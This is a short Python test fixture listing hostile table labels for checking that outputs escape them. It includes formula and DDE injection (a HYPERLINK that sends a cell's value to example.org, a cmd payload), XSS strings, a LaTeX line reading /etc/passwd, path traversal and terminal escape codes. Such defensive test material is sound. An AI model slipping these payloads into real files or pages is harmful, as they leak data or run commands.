"""Labels that a table may hold and no output may act upon."""

HOSTILE = (
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "<script>alert(1)</script>",
    r"$\frac{$",
    "../../x",
    "x" * 5000,
    "שלום עולם 12",
    "right\u202eto left",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    '"><img src=x onerror=alert(1)>',
    r"\input{/etc/passwd} 100% #1 a_b ~ ^",
    "bell\x07 and \x1b[31mred",
    "_hidden",
    "[link](javascript:alert(1)) | `code`",
)
